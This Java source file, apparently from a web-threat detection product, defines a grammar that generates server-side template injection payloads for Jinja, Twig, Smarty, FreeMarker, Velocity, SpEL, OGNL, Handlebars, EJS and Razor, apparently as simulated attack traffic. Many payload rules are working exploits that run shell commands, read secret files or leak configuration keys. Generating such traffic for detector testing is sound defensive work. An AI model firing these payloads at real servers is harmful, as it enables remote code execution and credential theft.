package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Expressions that a template engine evaluates on the server. */
final class TemplateInjection {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            sum ::=
              4×«2..99»«*¦*¦+¦-»«2..99»
              2×«100..99999»«*¦*¦+»«100..99999»
              2×«1..9»*'«1..9»'
              '«1..9»'*«1..9»
              «1..99»/0
              «1..9»*«1..9»*«1..9»
              '«letters 2..4»'.«toUpperCase()¦upper()¦length()¦concat("«letters 1..3»")»
              "«letters 2..4»".«join("ab")¦length»
              «2..99» * «2..99»
              range(«1..9»)
            around ::=
              8×«»
              «value»
              «word»,«sp»
              Hello«sp»
              }}
              '}
              "}
              %>
              a«sp»
            probe ::=
              5×«around»{{«?«sp»»«sum»«?«sp»»}}
              4×«around»${«?«sp»»«sum»«?«sp»»}
              2×«around»#{«sum»}
              2×«around»<%=«?«sp»»«sum»«?«sp»»%>
              «around»*{«sum»}
              «around»@{«sum»}
              «around»@(«sum»)
              «around»~{«sum»}
              «around»{{=«sum»}}
              «around»[[«$¦*»{«sum»}]]
              «around»${{«sum»}}
              «around»{«sum»}
              «around»{%«?-» «if «1..9»==«1..9»¦set «x:=letters 1..3»=«sum»¦print(«sum»)» %}«?{{«=x»}}»
              «around»#set($«x:=letters 1..3»=«sum»)$«=x»
              «around»%{«sum»}
              «around»$«{¦»{«sum»}}
              «around»{{«1..99»«*¦|»«letters 1..6»}}
              «around»{php}echo «sum»;{/php}
              «around»[=«sum»]
              ${{<%[%'"}}%\\«?.»
              «around»{#«letters 2..4»#}«?{{«sum»}}»
              {{«sum»}}${«sum»}<%=«sum»%>${{«sum»}}#{«sum»}*{«sum»}
              «around»__${«sum»}__::«?.x»
              «around»<%= «sum» if true %>
              «around»{{«sum»|«safe¦e¦escape¦raw»}}
              «around»{{{{«sum»}}}}
              «around»#{«sum»}#
              «around»={{«sum»}}
              «around»{{.}}{{printf "%s" "«letters 2..5»"}}
            thing ::=
              3×''
              ""
              []
              ()
              {}
              self
              request
              config
              cycler
              joiner
              lipsum
              url_for
              get_flashed_messages
              namespace
              «0..9»
              g
            dunder ::=
              .__«class¦base¦mro¦init¦globals¦dict¦subclasses»__
              |attr("«__class__¦\\x5f\\x5fclass\\x5f\\x5f»")
              ["__«class¦base¦mro¦init¦globals»__"]
              ['__cla'+'ss__']
              |attr(request.args.«letters 1..2»)
            python ::=
              4×«around»{{«thing».__class__.«__mro__[«1..2»]¦__base__¦__bases__[0]».__subclasses__()«?[«30..500»]«?('«unix_command»',shell=True,stdout=-1).communicate()»»}}
              3×«around»{{«cycler¦joiner¦namespace¦self¦lipsum¦url_for¦request.application».«__init__.¦»__globals__.«os¦__builtins__.__import__('os')».popen('«unix_command»').read()}}
              2×«around»{{«config¦config.items()¦self¦request¦request.environ¦settings.SECRET_KEY¦config['SECRET_KEY']¦g.pop.__globals__»}}
              2×«around»{{«thing»«2..5×«dunder»»}}
              «around»{% for «x:=letters 1..2» in «thing».__class__.__base__.__subclasses__() %}{% if '«warning¦Popen¦catch»' in «=x».__name__ %}{{«=x»()._module.__builtins__['__import__']('os').popen('«unix_command»').read()}}{%endif%}{%endfor%}
              «around»{% «import¦from» os «?import popen »%}{{os.popen('«unix_command»').read()}}
              «around»${«self.module.cache.util.os.system("«unix_command»")¦__import__("os").popen("«unix_command»").read()¦self.template.__init__.__globals__['os'].popen('id').read()»}
              «around»<% import os; x=os.popen('«unix_command»').read() %>${x}
              «around»{% include '«../../«secret_file»¦«word».html»' %}
              «around»{% debug %}
              «around»{{«lipsum¦cycler».__globals__["os"].popen("«unix_command»").read()}}
              «around»{{get_flashed_messages.__globals__.__builtins__.open("/«secret_file»").read()}}
              «around»{%with a=«thing»|attr('__class__')%}{{a}}{%endwith%}
              «around»{{[].__class__.__base__.__subclasses__()[«40..200»]('/«secret_file»').read()}}
              «around»{{ messages.storages.0.signer.key }}
              «around»{% load «log¦module» %}{% get_admin_log «1..9» as log %}
              «around»{{handler.settings}}{% import os %}{{ os.popen("«unix_command»").read() }}
            php ::=
              3×«around»{{_self.env.«registerUndefinedFilterCallback("«exec¦system¦passthru»")¦setCache("ftp://«server»/")¦enableDebug()»}}«?{{_self.env.getFilter("«unix_command»")}}»
              3×«around»{{['«unix_command»']|«filter¦map¦sort¦reduce»('«system¦passthru¦exec¦shell_exec»')«?|join»}}
              2×«around»{«system('«unix_command»')¦$smarty.version¦php}«echo `id`¦system('id')»;{/php¦self::getStreamVariable("file:///«secret_file»")»}
              «around»{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php «name» ?>",self::clearConfig())}
              «around»{{app.request.«server.all|join(',')¦query.filter(0,0,1024,{'options':'system'})»}}
              «around»{{'/«secret_file»'|file_excerpt(«1..9»,«10..30»)}}
              «around»{{dump(«app¦_context¦»)}}
              «around»{{source('«1..3×../»«secret_file»')}}
              «around»@php(«system('«unix_command»')¦phpinfo()»)
              «around»{if «system¦phpinfo»('«unix_command»')}{/if}
              «around»{{['cat${IFS}/«secret_file»']|filter('system')}}
              «around»{«=¦_|»«system("«unix_command»")¦["id"]|map("system")»}
            java ::=
              3×«around»<#assign «x:=letters 1..3»="freemarker.template.utility.«Execute¦ObjectConstructor¦JythonRuntime»"?new()>${«=x»("«unix_command»")}
              «around»${"freemarker.template.utility.Execute"?new()("«unix_command»")}
              «around»[#assign «x:=letters 1..3»='freemarker.template.utility.Execute'?new()]${«=x»('«unix_command»')}
              «around»${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/«secret_file»').toURL().openStream().readAllBytes()?join(" ")}
              3×«around»#set($«x:=letters 1..3»=«'¦"»«letters 0..3»«'¦"»)«?#set($rt=$«=x».class.forName('java.lang.Runtime'))»$«=x».«class.forName("java.lang.Runtime").getRuntime().exec("«unix_command»")¦getClass().forName('java.lang.System')»
              «around»$class.inspect("java.lang.Runtime").type.getRuntime().exec("«unix_command»").waitFor()
              3×«around»«$¦#¦*»{T(java.lang.«Runtime).getRuntime().exec('«unix_command»')¦System).getenv()¦System).getProperty('«user.dir¦os.name»')¦Thread).sleep(«1..9»000)»}
              2×__${T(java.lang.Runtime).getRuntime().exec("«unix_command»")}__::.«letters 1..3»
              2×«around»«$¦#»{«''¦""».«getClass()¦class».forName('«java.lang.Runtime¦javax.script.ScriptEngineManager»').«getMethods()[«1..20»].invoke(null)¦newInstance().getEngineByName('js').eval('«sum»')»}
              «around»«$¦#»{new java.lang.ProcessBuilder({'«unix_command»'}).start()}
              3×%{«?(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).»(#«x:=letters 1..4»=@java.lang.Runtime@getRuntime().exec('«unix_command»'))}
              %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«unix_command»').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))}
              «$¦%»{#context['«xwork.MethodAccessor.denyMethodExecution¦com.opensymphony.xwork2.dispatcher.HttpServletResponse»']=«false¦#«letters 1..3»»}
              ${@java.lang.Runtime@getRuntime().exec("«unix_command»")}
              «around»«$¦#»{«session¦request¦applicationScope¦pageContext.request¦facesContext».«getSession()¦setAttribute("«name»","«word»")¦getClass().getClassLoader()¦getServletContext()»}
              «around»{{«'a'.toUpperCase()¦"".getClass().forName("java.lang.Runtime")¦variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«unix_command»')»}}
              «around»{% set cmd='«unix_command»' %}{% set bytes=(1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd) %}
              «around»${"«unix_command»".execute()«?.text»}
              «around»${«new groovy.lang.GroovyClassLoader().parseClass("«name»")¦@groovy.transform.ASTTest(value={assert «sum»})»}
              ~{::__${T(java.lang.Runtime).getRuntime().exec('«unix_command»')}__}
            script ::=
              3×«around»{{«?#»«with¦each¦lookup» «"s" as |string|¦"constructor"¦this "constructor"»}}«?{{this.push "return require('child_process').execSync('«unix_command»');"}}»{{/with}}
              3×«around»{{range.constructor("return global.process.mainModule.require('child_process').execSync('«unix_command»')")()}}
              2×«around»#{«root.process¦global.process».mainModule.require('child_process').«spawnSync('«cat¦ls¦id»',['/«secret_file»']).stdout¦execSync('«unix_command»')»}
              «around»- var x = root.process«nl»- x = x.mainModule.require«nl»- x = x('child_process')«nl»= x.exec('«unix_command»')
              2×«around»<%«?-»= «`«unix_command»`¦system("«unix_command»")¦IO.popen('«unix_command»').readlines()¦File.open('/«secret_file»').read¦Dir.entries('/')¦global.process.mainModule.require('child_process').execSync('«unix_command»')» %>
              «around»#{«`«unix_command»`¦%x|«unix_command»|¦system('«unix_command»')¦File.read("/«secret_file»")»}
              «around»{{«this¦constructor».constructor('return process')().mainModule.require('child_process').execSync('«unix_command»')}}
              «around»{{«sum»}}{% for «x:=letters 1..2» in (1..«9..99»)%}{{«=x»}}{%endfor%}
              «around»${require('child_process').execSync('«unix_command»')}
              «around»{{$«eval¦root¦parent».constructor("return process.env")()}}
              «around»<%= Object.constructor.constructor('return process')().env %>
              «around»{{#with (lookup this "__proto__")}}{{«letters 3..6»}}{{/with}}
              settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('«unix_command»');s
              «around»{{.System "«unix_command»"}}
              «around»{{ template "«../«word»¦/«secret_file»»" }}
              «around»<esi:include src="«url»"«?/»>
            dotnet ::=
              3×«around»@{«System.Diagnostics.Process.Start("cmd.exe","/c «windows_command»");¦var «x:=letters 1..3» = «2..99»*«2..99»;»}«?@«=x»»
              2×«around»@(«System.IO.File.ReadAllText(«@"C:\\«windows_file»"¦"/«secret_file»"»)¦new System.Net.WebClient().DownloadString("«url»")¦System.Environment.MachineName»)
              «around»{{ «"«letters 2..5»" | object.eval¦include '«word»'¦date.now | object.keys» }}
              «around»@Html.Raw("«word»")@{Layout="«word»";}
              «around»<%# Eval("«word»") %><% Response.Write(new System.Diagnostics.Process()) %>
              «around»@inherits RazorEngine.Templating.TemplateBase@System.Diagnostics.Process.Start("«name»")
              «around»{{ "«windows_command»" | shell }}
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            family("template_expression", "probe"),
            family("template_python", "python"),
            family("template_php", "php"),
            family("template_java", "java"),
            family("template_script", "script"),
            family("template_dotnet", "dotnet").reservedForSimulation());

    private TemplateInjection() {}

    private static AttackFamily family(String name, String rule) {
        return AttackFamily.of(name, ThreatType.SSTI, GRAMMAR.from(rule));
    }
}
